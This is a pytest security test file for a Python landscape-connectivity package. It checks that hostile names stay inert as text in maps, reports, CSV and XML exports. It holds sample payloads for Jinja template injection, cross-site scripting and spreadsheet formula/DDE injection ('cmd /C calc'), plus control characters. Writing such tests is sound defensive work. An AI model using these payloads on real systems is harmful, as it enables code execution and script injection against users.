"""Names that would run as a template, HTML, script, SVG, formula or terminal control: text in every output, nothing else."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely

import permeability as pm
from permeability.core.plain_text import FORMULA, NUMBER, cell, from_cell, inert_html
from permeability.interop.export import export_circuitscape, export_qgis, export_ro_crate
from permeability.layers import vectors, whole_files
from permeability.linkage.paths import least_cost_paths

MAKE = "cycler.__init__.__globals__.os.mkdir"
TEMPLATES = (
    f"Fence {{% set x = {MAKE}(dict(PWNED=1)|join) %}}",
    f"{{{{ {MAKE}('PWNED') }}}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').mkdir('PWNED') }}{% raw %}",
    f"{{% endraw %}}{{{{ {MAKE}('PWNED') }}}}{{# lost #}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
)
MARKUP = (
    "<script>document.title='PWNED'</script>",
    "</script></style></textarea><script>document.title='PWNED'</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    "<svg/onload=document.title='PWNED'>",
    "' onmouseover='document.title=1' x='",
    '" onfocus="document.title=1" autofocus x="',
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>document.title='PWNED'</x:script>",
    "${document.title='PWNED'}`",
)
FORMULAS = (
    '=HYPERLINK("http://a.example/"&A1)',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
)
CONTROLS = (
    "bell\x07\x1b[31mred\x1b[0m",
    "fence\u202egnp.exe",
    "$\\frac{1}{$ \\input{x}",
    "[% @project_folder %]",
    "a\x0bb\x0c\x7f\x9f",
)
ALL = (*TEMPLATES, *MARKUP, *FORMULAS, *CONTROLS)


class Seen(HTMLParser):
    """Scripts, handlers and texts of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.handlers: list[str] = []
        self.scripts: list[str] = []
        self.inside = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handlers += [f"{tag} {k}" for k, _ in attrs if k.startswith("on")]
        self.inside = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self.inside = self.inside and tag != "script"

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.scripts.append(data)


def quiet(page: str) -> None:
    """A page with no script and no handler out of a name."""
    seen = Seen(page)
    assert seen.handlers == []
    assert not [s for s in seen.scripts if s.lstrip().startswith("document.title")]


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of its own as working directory: what a payload makes, it makes here."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


def landscape(text: str) -> tuple[Any, Any]:
    """The tiny landscape with the text in every text column of its barriers and patches."""
    from permeability.barriers.lines import prepare
    from permeability.landscape.landscape import build
    from permeability.landscape.patches import place
    from permeability.species import species

    tiny, _ = pm.samples.tiny()
    lines = tiny.barriers.table[["kind", "fence_class", "geometry"]].iloc[:1]
    lines = lines.assign(**{c: [text] for c in ("id", "name", "line", "source", "licence", "note")})
    land = build(
        tiny.grid, tiny.resistance, prepare(gpd.GeoDataFrame(lines, crs=tiny.grid.crs)), species("khulan")
    )
    boxes = [shapely.box(1000, 3000, 3000, 5000), shapely.box(9000, 3000, 11000, 5000)]
    table = gpd.GeoDataFrame(
        {"id": [text, "E"], "name": [text, text]}, geometry=boxes, crs=land.grid.crs, index=[text, "e"]
    )
    return land, place(table, land)


@pytest.mark.parametrize("text", ALL)
def test_web_maps_show_names_and_run_none(here: Path, text: str) -> None:
    pytest.importorskip("folium")
    pytest.importorskip("mapclassify")
    land, patches = landscape(text)
    line = land.barriers.lines[0]
    ranking = pm.rank(land, patches, pm.candidates(land, line, length_m=4000))
    plan = pm.Scenario(text).remove(line, km=(2, 6))
    results = (
        land, patches, ranking, pm.connectivity(land, patches), pm.compare(land, patches, plan),
        least_cost_paths(land.without_barriers(), patches),
    )  # fmt: skip
    for result in results:
        drawn = result.explore()
        shown = [drawn.html(), drawn._repr_html_()]
        drawn.save(here / "map.html")
        shown.append((here / "map.html").read_text(encoding="utf-8"))
        for page in shown:
            assert not (here / "PWNED").exists()
            assert text not in page or escape(text) == text
        quiet(shown[0])
        quiet(shown[1])
        web = result.explore(tiles="OpenStreetMap").get_root().render()
        assert text not in web or inert_html(text) == text
        quiet(web)
    assert not (here / "PWNED").exists()


@pytest.mark.parametrize("text", ALL)
def test_notebook_views_and_pictures(here: Path, text: str) -> None:
    land, patches = landscape(text)
    for result in (land, patches, pm.connectivity(land, patches)):
        quiet(result._repr_html_())
        assert result.plot().png(30).startswith(b"\x89PNG")
    table = pd.read_csv(land.save(here / "land.csv"), keep_default_na=False)
    for value in table.select_dtypes(exclude="number").to_numpy().ravel():
        assert not FORMULA.match(str(value)) or str(value).startswith("'") or NUMBER.fullmatch(str(value))
    back = whole_files.read_csv(here / "land.csv")
    assert back["name"][0] == from_cell(cell(text.strip()))
    assert pyogrio.read_dataframe(patches.save(here / "p.gpkg"))["name"][0] == text.strip()
    assert not (here / "PWNED").exists()


def toml(text: str) -> str:
    return json.dumps(text).replace("\x7f", "\\u007f")


def hostile_project(folder: Path) -> Path:
    """The tiny project with every text in names of rows, and some in its own words."""
    project = pm.samples.tiny_project(folder)
    barriers, patches = (vectors.read_vector(folder / "layers.gpkg", t) for t in ("barriers", "patches"))
    rows = pd.concat([barriers.iloc[[0]]] + [barriers.iloc[[1]]] * len(ALL), ignore_index=True)
    texts = ["F", *ALL]
    for i, shape in enumerate(rows.geometry):
        rows.loc[i, "geometry"] = shape if i == 0 else shapely.affinity.translate(shape, 2 * i, 0)
    for column in ("id", "line"):
        rows[column] = texts
    for column in ("name", "source", "licence", "note"):
        rows[column] = ["Fence", *ALL]
    patches["id"] = [TEMPLATES[0], MARKUP[0]]
    patches["name"] = [FORMULAS[0], MARKUP[3]]
    vectors.write_gpkg(folder / "layers.gpkg", {"barriers": rows, "patches": patches})
    words = project.read_text(encoding="utf-8")
    words = words.replace('"Two patches and a fence"', toml(TEMPLATES[1])).replace(
        '"An invented example."', toml(MARKUP[1] + FORMULAS[0])
    )
    project.write_text(words.replace('"opened in the middle"', toml(TEMPLATES[3])), encoding="utf-8")
    return project


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("strangers")
    return pm.run_project(hostile_project(folder / "project"), folder / "results").folder


def test_every_file_of_a_run_holds_text_only(here: Path, results: Path) -> None:
    assert not (results.parent / "PWNED").exists()
    for table in results.rglob("*.csv"):
        for value in pd.read_csv(table, dtype=str, keep_default_na=False).to_numpy().ravel():
            assert not FORMULA.match(value) or value.startswith("'") or NUMBER.fullmatch(value), table.name
    json.loads((results / "record.json").read_text(encoding="utf-8"))
    for language in ("en", "mn", "ru"):
        path = pm.write_report(results, here / f"{language}.html", language=language)
        page = path.read_text(encoding="utf-8")
        quiet(page)
        assert len(Seen(page).scripts) == 1  # the page's own
        assert "Content-Security-Policy" in page
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", page)
    assert not (here / "PWNED").exists()


def test_exports_are_whole_xml_and_hold_text_only(here: Path, results: Path) -> None:
    for export, name in ((export_qgis, "qgis"), (export_circuitscape, "cs"), (export_ro_crate, "crate")):
        export(results, here / name)
    xml = [p for p in here.rglob("*") if p.suffix in (".qml", ".sld", ".qgs", ".xml")]
    assert xml
    for file in xml:
        ET.fromstring(re.sub(r"<!DOCTYPE[^>]*>", "", file.read_text(encoding="utf-8")))
    for packed in here.rglob("*.gpkg"):
        if "layer_styles" in [str(n) for n, _ in pyogrio.list_layers(packed)]:
            for style in pyogrio.read_dataframe(packed, layer="layer_styles")["styleQML"]:
                ET.fromstring(re.sub(r"<!DOCTYPE[^>]*>", "", style))
    assert not list(here.rglob("PWNED"))


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
@pytest.mark.parametrize("text", [*TEMPLATES[:2], *MARKUP])
def test_a_browser_runs_none_of_it(here: Path, text: str) -> None:
    pytest.importorskip("folium")
    land, patches = landscape(text)
    for k, result in enumerate((land, patches)):
        page = here / f"{k}.html"
        (result.explore() if k else result.explore(tiles="OpenStreetMap")).save(page)
        command = [
            str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={here / 'profile'}",
            "--host-resolver-rules=MAP * ~NOTFOUND", "--dump-dom", page.as_uri(),
        ]  # fmt: skip
        dom = subprocess.run(command, capture_output=True, text=True, timeout=180, check=True).stdout
        assert "<title>PWNED" not in dom
        (here / "alone.html").write_text(result._repr_html_(), encoding="utf-8")
        dom = subprocess.run(
            [*command[:-1], (here / "alone.html").as_uri()],
            capture_output=True,
            text=True,
            timeout=180,
            check=True,
        ).stdout
        assert "<title>PWNED" not in dom
